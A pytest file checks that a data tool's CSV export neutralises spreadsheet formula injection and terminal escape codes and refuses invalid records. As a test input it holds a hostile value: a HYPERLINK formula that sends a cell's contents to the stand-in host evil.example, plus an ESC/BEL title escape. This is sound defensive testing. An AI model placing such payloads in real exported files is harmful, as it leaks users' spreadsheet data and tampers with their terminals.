"""``export --csv`` is spreadsheet-safe and writes only what ``export`` accepts (issue 23). Real files and processes."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

import pandas as pd
import pytest

from collector.dataset.tidy import spreadsheet_safe
from processes import cli

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"click")\x1b]0;pwned\x07'


def _toml_string(s: str) -> str:
    return json.dumps(s)  # a JSON string with \\u escapes is a TOML basic string


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("evil")
    name = _toml_string(EVIL)
    (d / "s.toml").write_text(f'[sweep]\nmodels = [{name}]\ndevices = ["sim"]\nbudgets = "8,16"\ntrials = 1\n'
                              f'title = {_toml_string("@SUM(1+1)")}\n[sim.costs.{name}]\nn_params = 1000\n')
    proc = cli("run", "--config", "s.toml", "-o", "e.nc", "--quiet", cwd=d)
    assert proc.returncode == 0, proc.stderr
    return d


@pytest.mark.parametrize("source", ["e.nc", "e.journal"])
def test_formula_and_control_characters_are_defused(evil: Path, source: str) -> None:
    """Was: the name was written as a live formula, with raw ESC and BEL bytes."""
    out = f"{source}.csv"
    proc = cli("export", "--csv", source, "-o", out, cwd=evil)
    assert proc.returncode == 0, proc.stderr
    raw = (evil / out).read_bytes()
    assert b"\x1b" not in raw and b"\x07" not in raw
    with (evil / out).open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and {r["model"] for r in rows} == {"'" + EVIL.replace("\x1b", "\\x1b").replace("\x07", "\\x07")}
    for r in rows:  # no cell a spreadsheet would run
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values()), r
    df = pd.read_csv(evil / out)
    assert df["latency"].dtype.kind == "f" and (df["latency"] > 0).all()  # numbers stay numbers


def test_spreadsheet_safe_cells() -> None:
    df = pd.DataFrame({"name": ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "ok", "a=b"], "x": [-1.0] * 8,
                       "=col": ["a"] * 8})
    safe = spreadsheet_safe(df)
    assert safe["name"].tolist() == ["'=1+1", "'+1", "'-1", "'@x", "\\tx", "\\rx", "ok", "a=b"]
    assert safe["x"].tolist() == [-1.0] * 8 and list(safe.columns) == ["name", "x", "'=col"]


@pytest.mark.parametrize("change, needle", [
    ({"latency": -1.0, "decode_time": -1.004}, "negative times"),
    ({"budget": -8, "tokens": -8}, "coordinate 'budget' has -8"),
])
def test_csv_refuses_what_export_refuses(evil: Path, tmp_path: Path, change: dict[str, float], needle: str) -> None:
    """Was: export --csv wrote rows that export refuses (a negative latency, a budget outside the grid)."""
    journal = tmp_path / "e.journal"
    journal.write_bytes((evil / "e.journal").read_bytes())
    with sqlite3.connect(journal) as con:
        rid, record = con.execute("SELECT id, record FROM runs ORDER BY id LIMIT 1").fetchone()
        rec = json.loads(record)
        rec.update(change)
        con.execute("UPDATE runs SET record = ?, budget = ? WHERE id = ?", (json.dumps(rec), rec["budget"], rid))
    for args in (["export", "e.journal", "-o", "x.nc"], ["export", "--csv", "e.journal", "-o", "x.csv"]):
        proc = cli(*args, cwd=tmp_path)
        assert proc.returncode == 2, (args, proc.stderr)
        line = proc.stderr.strip()
        assert line.startswith("error: ") and "\n" not in line and needle in line, line
    assert not (tmp_path / "x.csv").exists() and not (tmp_path / "x.nc").exists()
